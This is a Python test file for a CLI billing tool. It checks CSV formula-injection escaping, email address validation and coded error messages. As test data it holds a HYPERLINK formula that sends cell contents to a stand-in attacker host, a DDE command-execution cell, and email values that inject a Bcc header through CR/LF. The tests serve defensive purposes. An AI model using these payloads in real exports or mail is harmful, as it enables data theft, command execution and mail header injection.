"""Issue 13: expected conditions have a code and a hint; contact addresses; CSV formulas.

- Every expected condition (a held lock, a broken template, a huge number, a
  far date, a CR/LF in an address) is a refusal with a stable ``E-…`` code and
  a hint, never "internal error … this is a bug" (the CLI's bug boundary).
- Contact addresses are RFC 5322 addr-specs: validated in account files, in
  ``invoice send --to`` and in cpq.toml ``[smtp] from``.
- CSV (``export`` and ``--format csv``) neutralises cells a spreadsheet would
  run as formulas (OWASP's CSV injection), never plain numbers.
"""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

TOML = '[company]\nname = "Test Co"\ncurrency = "USD"\n'
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"ACME")'
CATALOG = """\
    products:
      - {code: PLAN, name: Plan, type: subscription, per: month, price: {USD: 50.00}}
      - {code: EVIL, name: "@SUM(1+1)*cmd|' /C calc'!A0", type: subscription, per: month, price: {USD: 5.00}}
    """
ACCOUNT = f"""\
    account: acme
    name: '{HYPERLINK}'
    currency: USD
    address: "-2+3"
    contacts:
      - {{name: Ann, email: ann@acme.example, role: billing}}
    """
CONTRACT = """\
    contract: C-2026-0001
    account: acme
    currency: USD
    start: 2026-01-01
    end: 2026-12-31
    lines:
      - {product: PLAN, quantity: 2, list_price: 50.00, unit_price: 50.00, per: month, start: 2026-01-01, end: 2026-12-31}
    amendments:
      - amendment: A-1
        effective: 2026-04-01
        lines:
          - {product: PLAN, quantity: -1, list_price: 50.00, unit_price: 50.00, per: month, start: 2026-04-01, end: 2026-12-31}
    """
FILES = {
    "catalog/p.yaml": CATALOG,
    "contracts/acme/account.yaml": ACCOUNT,
    "contracts/acme/C-2026-0001.yaml": CONTRACT,
}


def rows(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


# ------------------------------------------------------------------ CSV formulas


def test_csv_export_neutralises_formulas_but_not_negative_numbers(repo, cli, tmp_path) -> None:
    root = repo(FILES, toml=TOML)
    out = tmp_path / "export"
    run = cli("export", "-o", out, "--as-of", "2026-06-30", "--repo", root)
    assert run.code == 0, run.stderr
    account = rows(out / "accounts.csv")[0]
    assert account["name"] == "'" + HYPERLINK  # shown as text by a spreadsheet, never run
    assert account["address"] == "'-2+3"  # starts with -, but not a number: a formula
    seg = next(r for r in rows(out / "segments.csv") if r["source"] == "A-1")
    assert (seg["quantity"], seg["mrr"]) == ("-1", "-50.00")  # numbers stay numbers


def test_csv_export_raw_keeps_cells_and_sqlite_is_unchanged(repo, cli, tmp_path) -> None:
    root = repo(FILES, toml=TOML)
    run = cli("export", "--raw-csv", "-o", tmp_path / "raw", "--as-of", "2026-06-30", "--repo", root)
    assert run.code == 0, run.stderr
    assert rows(tmp_path / "raw" / "accounts.csv")[0]["name"] == HYPERLINK
    db = tmp_path / "x.sqlite"
    run = cli("export", "--format", "sqlite", "-o", db, "--as-of", "2026-06-30", "--repo", root)
    assert run.code == 0, run.stderr
    with sqlite3.connect(db) as con:
        assert con.execute("select name, address from accounts").fetchone() == (HYPERLINK, "-2+3")


def test_format_csv_of_tables_neutralises_formulas(repo, cli) -> None:
    root = repo(FILES, toml=TOML)
    run = cli("catalog", "list", "--format", "csv", "--repo", root)
    assert run.code == 0, run.stderr
    names = {r["code"]: r["name"] for r in csv.DictReader(io.StringIO(run.stdout))}
    assert names == {"EVIL": "'@SUM(1+1)*cmd|' /C calc'!A0", "PLAN": "Plan"}
    run = cli(
        "report",
        "movements",
        "--from",
        "2026-03-01",
        "--to",
        "2026-06-30",
        "--detail",
        "--format",
        "csv",
        "--repo",
        root,
    )
    assert run.code == 0, run.stderr
    assert "acme,contraction,100.00,50.00,-50.00" in run.stdout.splitlines()  # a negative delta: a number


@pytest.mark.parametrize(
    ("cell", "out"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),
        ("+3", "+3"),
        ("-5%", "-5%"),
        ("-.5", "-.5"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (7, 7),
    ],
)
def test_csv_cell_rule(cell, out) -> None:
    from cpqctl.formats.export import csv_cell

    assert csv_cell(cell) == out
    assert csv_cell(cell, raw=True) == ("" if cell is None else cell)


# ------------------------------------------------------------------ contact addresses


@pytest.mark.parametrize(
    ("email", "why"),
    [
        ("not an address", "not of the form local@domain"),
        ("Anna <anna@acme.example>", "not of the form local@domain"),
        ("anna@acme.example, bob@acme.example", "not of the form local@domain"),
        ("anna@acme.example\\r\\nBcc: x@evil.example", "control character"),
        ("łukasz@łódź.example", "not of the form local@domain"),  # a non-ASCII local part needs SMTPUTF8
        ("anna@-acme.example", "not a valid domain name"),
        ("anna@[192.0.2.1]", "address literal"),
    ],
)
def test_a_contact_email_that_is_not_an_address_is_a_positioned_error(repo, cli, email, why) -> None:
    account = ACCOUNT.replace("ann@acme.example", f'"{email}"')
    root = repo({**FILES, "contracts/acme/account.yaml": account}, toml=TOML)
    run = cli("check", "--repo", root)
    assert run.code == 1
    assert "contracts/acme/account.yaml:6:" in run.stdout and "error[E-EMAIL]" in run.stdout and why in run.stdout


def test_idna_domains_and_quoted_local_parts_are_addresses(repo, cli) -> None:
    account = ACCOUNT.replace("ann@acme.example", "ann@bücher.example")
    account = account.rstrip(" ") + "      - {name: Bob, email: '\"bob smith\"@acme.example'}\n"
    root = repo({**FILES, "contracts/acme/account.yaml": account}, toml=TOML)
    run = cli("check", "--repo", root)
    assert run.code == 0, run.stdout


def test_smtp_from_is_checked(repo, cli) -> None:
    root = repo(FILES, toml=TOML + '[smtp]\nfrom = "Billing <billing@example.com>\\nBcc: x@evil.example"\n')
    run = cli("check", "--repo", root)
    assert run.code == 1 and "cpq.toml:" in run.stdout and "error[E-EMAIL]" in run.stdout
    assert "\\nBcc" in run.stdout  # shown escaped: the message stays on its line
    ok = repo(FILES, toml=TOML + "[smtp]\nfrom = '\"Billing, Inc.\" <billing@example.com>'\n")
    assert cli("check", "--repo", ok).code == 0
    unquoted = repo(FILES, toml=TOML + '[smtp]\nfrom = "Billing, Inc. <billing@example.com>"\n')
    run = cli("check", "--repo", unquoted)  # RFC 5322: a display name with a comma is quoted
    assert run.code == 1 and "not one address" in run.stdout


@pytest.fixture
def invoiced(repo, cli) -> Path:
    root = repo(FILES, toml=TOML)
    run = cli("invoice", "run", "--as-of", "2026-01-01", "--repo", root)
    assert run.code == 0, run.stderr
    return root


@pytest.mark.parametrize(
    "to", ["a@b.example\r\nBcc: x@evil.example", "not an address", "a@b.example (x)", "a@b_c.example"]
)
def test_invoice_send_to_a_bad_address_is_a_usage_error(invoiced, cli, tmp_path, to) -> None:
    inv = (invoiced / "invoices").iterdir().__next__().stem
    before = (invoiced / "invoices" / f"{inv}.yaml").read_bytes()
    run = cli(
        "invoice", "send", inv, "--to", to, "--eml", tmp_path / "m.eml", "--as-of", "2026-01-02", "--repo", invoiced
    )
    assert run.code == 2 and "error[E-EMAIL]" in run.stderr and "internal error" not in run.stderr
    assert not (tmp_path / "m.eml").exists()
    assert (invoiced / "invoices" / f"{inv}.yaml").read_bytes() == before


# ------------------------------------------------------------------ expected conditions: a code, never "internal error"


def _hold_lock(root: Path, monkeypatch):
    """Another command holds `.cpq/lock` (an flock on its own open file, as a second process would); wait 0.2 s."""
    import fcntl

    from cpqctl.app.workspace import Workspace
    from cpqctl.store import Store

    monkeypatch.setattr(Workspace, "store", lambda self: Store(self.root, lock_timeout=0.2))
    (root / ".cpq").mkdir(exist_ok=True)
    f = open(root / ".cpq" / "lock", "a+")  # noqa: SIM115 - held until the test ends
    fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB)
    return f


def _template(text: str, name: str = "quote.md.j2"):
    def setup(root: Path, monkeypatch) -> None:
        (root / "templates").mkdir(exist_ok=True)
        (root / "templates" / name).write_text(text, encoding="utf-8")

    return setup


def _contract_line(old: str, new: str):
    def setup(root: Path, monkeypatch) -> None:
        path = root / "contracts" / "acme" / "C-2026-0001.yaml"
        path.write_text(path.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")

    return setup


SEAT = "{product: PRO-SEAT, quantity: 50, list_price: 1200.00"
NEW = ("quote", "new", "--account", "acme", "--start", "2026-07-01")
RENDER = ("quote", "render", "Q-2026-0001", "--format", "md", "-o", "-")
SEND = ("invoice", "send", "INV-2026-0001", "--eml", "{tmp}/m.eml")

# (name, setup or None, command, expected code, exit status)
CONDITIONS = [
    ("lock held by another command", _hold_lock, (*NEW, "--term", "12", "--line", "PRO-SEAT=1"), "E-LOCKED", 1),
    ("template syntax error", _template("{% if %}\n"), RENDER, "E-TEMPLATE", 1),
    ("template undefined variable", _template("{{ nope.x }}\n"), RENDER, "E-TEMPLATE", 1),
    ("template missing include", _template('{% include "missing.j2" %}\n'), RENDER, "E-TEMPLATE", 1),
    ("template raises", _template("{{ 1 / 0 }}\n"), RENDER, "E-TEMPLATE", 1),
    (
        "typst template error",
        _template("#let x = \n", "quote.typ.j2"),
        (*RENDER[:3], "--format", "pdf", "-o", "{tmp}/q.pdf"),
        "E-PDF",
        1,
    ),
    ("huge --line quantity", None, (*NEW, "--term", "12", "--line", "PRO-SEAT=99999999999999999999999"), "E-RANGE", 2),
    ("--line discount over 100%", None, (*NEW, "--term", "12", "--line", "PRO-SEAT=1@1000%"), "E-RANGE", 2),
    ("huge --line discount amount", None, (*NEW, "--term", "12", "--line", "PRO-SEAT=1@" + "9" * 40), "E-RANGE", 2),
    (
        "huge amend --set",
        None,
        ("amend", "C-2026-0001", "--effective", "2026-07-01", "--set", "PRO-SEAT=" + "9" * 30, "--dry-run"),
        "E-RANGE",
        2,
    ),
    (
        "huge amend --reprice",
        None,
        ("amend", "C-2026-0001", "--effective", "2026-07-01", "--reprice", "PRO-SEAT=" + "9" * 40, "--dry-run"),
        "E-RANGE",
        2,
    ),
    ("quantity 1e30 in a data file", _contract_line(SEAT, SEAT.replace("50", "1e30")), ("check",), "E-NUMBER", 1),
    (
        "a 40-digit price in a data file",
        _contract_line(SEAT, SEAT.replace("1200.00", "9" * 40 + ".00")),
        ("check",),
        "E-RANGE",
        1,
    ),
    ("a term of 10^9 months", None, (*NEW, "--term", "1000000000", "--line", "PRO-SEAT=1"), "E-RANGE", 2),
    ("renew --term 10^9", None, ("renew", "C-2026-0001", "--term", "1000000000", "--dry-run"), "E-RANGE", 2),
    ("--as-of 9999-12-31", None, ("report", "arr", "--as-of", "9999-12-31"), "E-DATE-RANGE", 2),
    (
        "--as-of 9999-12-31 invoice run",
        None,
        ("invoice", "run", "--dry-run", "--as-of", "9999-12-31"),
        "E-DATE-RANGE",
        2,
    ),
    (
        "--start 0001-01-01",
        None,
        (*NEW[:4], "--start", "0001-01-01", "--term", "12", "--line", "PRO-SEAT=1"),
        "E-DATE-RANGE",
        2,
    ),
    ("--end 9999-12-31", None, (*NEW, "--end", "9999-12-31", "--line", "PRO-SEAT=1"), "E-DATE-RANGE", 2),
    (
        "--extend-to 9999-12-31",
        None,
        ("amend", "C-2026-0001", "--effective", "2026-07-01", "--extend-to", "9999-12-31", "--dry-run"),
        "E-DATE-RANGE",
        2,
    ),
    ("--through 9999-12-31", None, ("invoice", "run", "--through", "9999-12-31", "--dry-run"), "E-DATE-RANGE", 2),
    ("renewals --within 10^9", None, ("renewals", "--within", "999999999"), "E-RANGE", 2),
    ("CR/LF in --to", None, (*SEND, "--to", "a@b.example\r\nBcc: x@evil.example"), "E-EMAIL", 2),
    ("the example as it is", None, ("check",), None, 0),  # the setup itself is clean
]


@pytest.mark.parametrize(("name", "setup", "command", "code", "status"), CONDITIONS, ids=[c[0] for c in CONDITIONS])
def test_expected_conditions_have_a_code_and_a_hint(
    example_repo, cli, monkeypatch, tmp_path, name, setup, command, code, status
) -> None:
    run = cli("invoice", "run", "--as-of", "2026-06-30", "--repo", example_repo)
    assert run.code == 0, run.stderr
    run = cli(*NEW, "--term", "12", "--line", "PRO-SEAT=5", "--as-of", "2026-06-30", "--repo", example_repo)
    assert run.code == 0, run.stderr
    held = setup(example_repo, monkeypatch) if setup is not None else None
    args = [a.replace("{tmp}", str(tmp_path)) for a in command]
    if "--as-of" not in args:
        args += ["--as-of", "2026-06-30"]
    try:
        run = cli(*args, "--repo", example_repo)
    finally:
        if held is not None:
            held.close()
    out = run.stdout + run.stderr
    assert "internal error" not in out and "Traceback" not in out
    assert run.code == status, out
    if code is not None:
        assert f"error[{code}]" in out and "= hint: " in out
